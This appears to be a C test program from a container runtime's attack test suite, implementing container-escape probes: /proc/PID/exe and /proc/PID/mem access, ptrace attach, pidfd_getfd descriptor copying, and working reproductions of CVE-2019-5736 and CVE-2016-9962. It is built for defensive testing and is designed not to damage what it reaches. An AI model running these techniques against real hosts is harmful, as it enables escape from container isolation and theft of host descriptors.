/* attack.c - what a hostile workload does, as one small static program for the attack tests
 * (tests/test_attacks.py). Every command prints what it obtained, one line per fact, and never
 * damages what it reaches: a file it can open for writing is reported, not written (except
 * `watch-exe`, which writes back the byte it just read, so a hole it proves changes nothing).
 *
 *   attack exe PID          open /proc/PID/exe; print its device and inode; try to reopen it for writing
 *   attack mem PID          open /proc/PID/mem for writing (ptrace access)
 *   attack ptrace PID       PTRACE_SEIZE it (from a child, so the trace ends when the child does)
 *   attack getfd PID        pidfd_getfd every descriptor of PID below 1024; print what each is
 *   attack watch-exe SECS   CVE-2019-5736: hold /proc/PID/exe of every process that runs a file
 *                           from outside this rootfs (the runtime), then try to write to it once nothing runs it;
 *                           stops at the first write that works, or a second after the
 *                           last copy it held refused the write
 *   attack stalk SECS       CVE-2016-9962: stop every process that joins our pid namespace, again
 *                           and again, until /proc/PID/mem opens; report whether it was still the
 *                           runtime (not yet the exec'd program) when it did, and what fds it held
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void link_of(const char *path, char *out, size_t size)
{
    ssize_t n = readlink(path, out, size - 1);
    if (n < 0)
        snprintf(out, size, "(%s)", strerror(errno));
    else
        out[n] = '\0';
}

static int cmd_exe(int pid)
{
    char path[64], target[4096];
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        printf("exe %d: open: %s\n", pid, strerror(errno));
        return 0;
    }
    struct stat st;
    fstat(fd, &st);
    link_of(path, target, sizeof(target));
    printf("exe %d: dev=%lu ino=%lu %s\n", pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino, target);
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    int w = open(path, O_WRONLY | O_CLOEXEC);
    printf("exe %d: reopen for writing: %s\n", pid, w >= 0 ? "OPENED" : strerror(errno));
    if (w >= 0)
        close(w);
    close(fd);
    return 0;
}

static int cmd_mem(int pid)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/mem", pid);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    printf("mem %d: %s\n", pid, fd >= 0 ? "OPENED" : strerror(errno));
    if (fd >= 0)
        close(fd);
    return 0;
}

static int cmd_ptrace(int pid)
{
    pid_t child = fork();
    if (child == 0)
        _exit(ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 ? 0 : errno);
    int status = 0;
    waitpid(child, &status, 0);
    int err = WIFEXITED(status) ? WEXITSTATUS(status) : EINTR;
    printf("ptrace %d: %s\n", pid, err == 0 ? "ATTACHED" : strerror(err));
    return 0;
}

/* Every fd of PID we can copy; returns how many. */
static int steal_fds(int pid, const char *tag)
{
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (pidfd < 0) {
        printf("%s %d: pidfd_open: %s\n", tag, pid, strerror(errno));
        return 0;
    }
    int got = 0, first_err = 0;
    for (int fd = 0; fd < 1024; fd++) {
        int mine = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
        if (mine < 0) {
            if (errno != EBADF && first_err == 0)
                first_err = errno;
            continue;
        }
        char path[64], target[4096];
        snprintf(path, sizeof(path), "/proc/self/fd/%d", mine);
        link_of(path, target, sizeof(target));
        printf("%s %d: fd %d -> %s\n", tag, pid, fd, target);
        close(mine);
        got++;
    }
    if (got == 0)
        printf("%s %d: nothing: %s\n", tag, pid, first_err ? strerror(first_err) : "no descriptors");
    close(pidfd);
    return got;
}

static int others(int *pids, int max)
{
    DIR *d = opendir("/proc");
    int n = 0;
    struct dirent *e;
    while (d && (e = readdir(d)) != NULL && n < max) {
        int pid = atoi(e->d_name);
        if (pid > 0 && pid != getpid())
            pids[n++] = pid;
    }
    if (d)
        closedir(d);
    return n;
}

/* Whatever a process runs that is not a file of this rootfs (whose programs are all in /bin): the
 * runtime's binary, the host's file or a copy of it, whatever its name. */
static int is_runtime(const char *target)
{
    return target[0] == '/' && strncmp(target, "/bin/", 5) != 0;
}

/* CVE-2019-5736: a process of ours that runs the runtime's file lends us its /proc/PID/exe; once
 * nothing runs the file any more (no ETXTBSY), reopen it for writing through our descriptor. */
static int cmd_watch_exe(double seconds)
{
    enum { MAX = 256 };
    int held[MAX], seen_pid[4096] = {0}, n_held = 0, n_seen = 0;
    double end = now() + seconds, last_event = now();
    while (now() < end) {
        if (n_seen > 0 && n_held == 0 && now() - last_event > 1.0)
            break; /* everything seen was refused, and nothing new for a second */
        int pids[512];
        int n = others(pids, 512);
        for (int i = 0; i < n && n_held < MAX; i++) {
            if (pids[i] >= 4096 || seen_pid[pids[i]])
                continue;
            char path[64], target[4096];
            snprintf(path, sizeof(path), "/proc/%d/exe", pids[i]);
            link_of(path, target, sizeof(target));
            if (!is_runtime(target))
                continue;
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0)
                continue;
            seen_pid[pids[i]] = 1;
            held[n_held++] = fd;
            n_seen++;
            last_event = now();
            printf("seen %s\n", target);
            fflush(stdout);
        }
        for (int i = 0; i < n_held; i++) {
            char path[64], byte;
            snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
            int w = open(path, O_WRONLY | O_CLOEXEC);
            if (w < 0)
                continue;
            char target[4096];
            link_of(path, target, sizeof(target));
            if (pread(held[i], &byte, 1, 0) == 1 && pwrite(w, &byte, 1, 0) == 1) {
                printf("WROTE %s\n", target);
                return 0;
            }
            /* a sealed copy opens but refuses the write: let it go */
            printf("refused %s: %s\n", target, strerror(errno));
            close(w);
            close(held[i]);
            held[i--] = held[--n_held];
            last_event = now();
        }
        usleep(200);
    }
    printf("held %d\n", n_held);
    return 0;
}

static char state_of(int pid)
{
    char path[64], buf[512];
    snprintf(path, sizeof(path), "/proc/%d/stat", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, buf, sizeof(buf) - 1);
    close(fd);
    if (n <= 0)
        return 0;
    buf[n] = '\0';
    char *p = strrchr(buf, ')');
    return p && p[1] == ' ' ? p[2] : 0;
}

static int last_pid(void)
{
    char buf[32];
    int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
    ssize_t n = fd >= 0 ? read(fd, buf, sizeof(buf) - 1) : -1;
    if (fd >= 0)
        close(fd);
    if (n <= 0)
        return 0;
    buf[n] = '\0';
    return atoi(buf);
}

/* Step a stopped process: SIGCONT, SIGSTOP at once (it stops at its next return to user space,
 * about a system call later), until /proc/PID/mem opens or it is gone. */
static void step_until_reached(int pid, int *caught)
{
    for (;;) {
        char st;
        while ((st = state_of(pid)) != 'T' && st != 't' && st != 0 && st != 'Z' && st != 'X')
            ;
        if (st == 0 || st == 'Z' || st == 'X')
            return;
        char path[64], target[4096];
        snprintf(path, sizeof(path), "/proc/%d/mem", pid);
        int mem = open(path, O_RDWR | O_CLOEXEC);
        if (mem >= 0) {
            snprintf(path, sizeof(path), "/proc/%d/exe", pid);
            link_of(path, target, sizeof(target));
            if (is_runtime(target)) {
                printf("CAUGHT %d running %s: /proc/%d/mem opened\n", pid, target, pid);
                steal_fds(pid, "stolen");
                (*caught)++;
            } else {
                printf("joined %d: reached only once it ran %s\n", pid, target);
            }
            close(mem);
            kill(pid, SIGCONT);
            return;
        }
        kill(pid, SIGCONT);
        usleep(50); /* let it run a step: stopped again at once, it could make no progress at all */
        if (kill(pid, SIGSTOP) < 0)
            return;
    }
}

/* CVE-2016-9962: a process joining the container (an exec) shows up in our pid namespace before it
 * execs its program. Catch it as it is born (pids are handed out in order: signal the next ones),
 * stop it (the same uid may), and step it until its /proc/PID/mem opens. Reaching it while it
 * still runs the runtime is the hole: its memory and its descriptors are the host's. */
static int cmd_stalk(double seconds)
{
    int stalked = 0, caught = 0, next = last_pid() + 1;
    double end = now() + seconds;
    while (now() < end) {
        for (int pid = next; pid < next + 3; pid++) {
            if (pid == getpid() || kill(pid, SIGSTOP) < 0)
                continue;
            stalked++;
            step_until_reached(pid, &caught);
            next = pid + 1;
        }
        int last = last_pid();
        if (last >= next)
            next = last + 1 - 2; /* what was born meanwhile, and what comes next */
    }
    printf("stalked %d caught %d\n", stalked, caught);
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 3 && strcmp(argv[1], "exe") == 0)
        return cmd_exe(atoi(argv[2]));
    if (argc == 3 && strcmp(argv[1], "mem") == 0)
        return cmd_mem(atoi(argv[2]));
    if (argc == 3 && strcmp(argv[1], "ptrace") == 0)
        return cmd_ptrace(atoi(argv[2]));
    if (argc == 3 && strcmp(argv[1], "getfd") == 0)
        return steal_fds(atoi(argv[2]), "getfd") < 0;
    if (argc == 3 && strcmp(argv[1], "watch-exe") == 0)
        return cmd_watch_exe(atof(argv[2]));
    if (argc == 3 && strcmp(argv[1], "stalk") == 0)
        return cmd_stalk(atof(argv[2]));
    fprintf(stderr, "usage: attack exe|mem|ptrace|getfd PID | watch-exe SECS | stalk SECS\n");
    return 2;
}
